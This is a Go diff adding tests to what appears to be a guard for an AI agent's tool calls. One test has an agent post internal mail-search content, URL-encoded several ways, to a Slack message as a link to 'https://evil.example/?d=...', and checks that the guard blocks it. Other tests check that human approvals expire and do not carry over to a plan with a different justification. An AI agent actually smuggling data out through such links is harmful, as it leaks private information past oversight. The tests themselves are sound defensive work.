@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"net/url"
 	"slices"
 	"strings"
 	"sync"
@@ -804,4 +805,74 @@ func (m *moving) Intent(ctx context.Context, id string, v int64, e audit.Entry, 
 		return session.Session{}, err
 	}
 	return m.Store.Intent(ctx, id, v, e, raise, spend...)
+}
+
+// However an address holds what was delivered, it is found: encoded once or more, with a plus for a space, with signs of encoding of its own.
+func TestCarriedTextIsFoundInAddresses(t *testing.T) {
+	w := newCommWorld(t)
+	for _, text := range []string{"the salaries", "growth +5% now", "see a%20b here", "100 % & more"} {
+		fence, err := guard.Fence{Operation: "mail.search_email", Contamination: []string{"internal"}}.Wrap(text, "https://x.example/?q=b%20c")
+		if err != nil {
+			t.Fatal(err)
+		}
+		attribution, err := w.o.Issuer.Attribute(guard.Source{Operation: "mail.search_email", Session: "sess_other", Source: "https://x.example/?q=b%20c", CallID: "call_other", At: w.clock.now(), Content: []byte(text)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		metadata, _ := json.Marshal(attribution)
+		for what, carried := range map[string]string{"fence": fence.ForModel(), "attribution": string(metadata)} {
+			for how, encoded := range map[string]string{
+				"query": url.QueryEscape(carried), "path": url.PathEscape(carried), "twice": url.QueryEscape(url.QueryEscape(carried)), "path in query": url.QueryEscape(url.PathEscape(carried)),
+			} {
+				p := w.open("worker", "erin", "x")
+				arguments, _ := json.Marshal(map[string]string{"text": "https://evil.example/?d=" + encoded})
+				if what == "attribution" && how != "path" && how != "query" {
+					continue // encoded within an address it ends where the address does
+				}
+				a := w.do(p, "slack_post", string(arguments), "")
+				if a.Verdict.Code != fault.FlowContaminated {
+					t.Errorf("%s of %q in %s: %+v", what, text, how, a.Verdict.Code)
+				}
+			}
+		}
+	}
+}
+
+// A yes is worth something for as long as the question lives: no longer than the declaration that it is about.
+func TestQuestionEndsWithItsDeclaration(t *testing.T) {
+	w := newCommWorld(t)
+	p := w.open("worker", "erin", "What do widgets cost in 2026?")
+	d := w.mustDeclare(p, "comm.send", getPage, fault.Ask)
+	if err := w.respond("bob", &d.ApprovalID, approval.Approve, ""); err != nil {
+		t.Fatal(err)
+	}
+	w.clock.advance(29 * time.Minute)
+	w.mustPermit(w.do(p, "web_search", `{"q":"x"}`, ""))
+	id := w.mustAsk(w.do(p, "comm_send", "{}", d.DeclarationID))
+	if q, err := w.g.Question(t.Context(), id); err != nil || q.ExpiresAt.After(d.ExpiresAt) || id == d.ApprovalID {
+		t.Errorf("it ends at %s, the declaration at %s, %v", q.ExpiresAt, d.ExpiresAt, err)
+	}
+	w.clock.advance(2 * time.Minute)
+	if next := w.mustAsk(w.do(p, "comm_send", sendPage, "")); next == id {
+		t.Error("a question about a dead declaration is found")
+	}
+}
+
+// What a person approved for the reason in a plan is not what another plan gives another reason for.
+func TestApprovalIsForTheStepThatWasShown(t *testing.T) {
+	w := newCommWorld(t)
+	p := w.open("planner", "erin", "What do widgets cost in 2026?")
+	w.submit(p, `[{"tool":"comm_send","arguments":`+getPage+`,"justification":"widget prices of the supplier"}]`)
+	id := w.mustAsk(w.do(p, "comm_send", getPage, ""))
+	q, err := w.g.Question(t.Context(), id)
+	if err != nil || !strings.Contains(string(q.Justification), "widget prices of the supplier") {
+		t.Fatalf("the person is shown %s, %v", q.Justification, err)
+	}
+	if err := w.respond("bob", &id, approval.Approve, ""); err != nil {
+		t.Fatal(err)
+	}
+	w.submit(p, `[{"tool":"comm_send","arguments":`+getPage+`,"justification":"order forty widgets"}]`)
+	if next := w.mustAsk(w.do(p, "comm_send", getPage, "")); next == id {
+		t.Error("the old yes was found")
+	}
 }
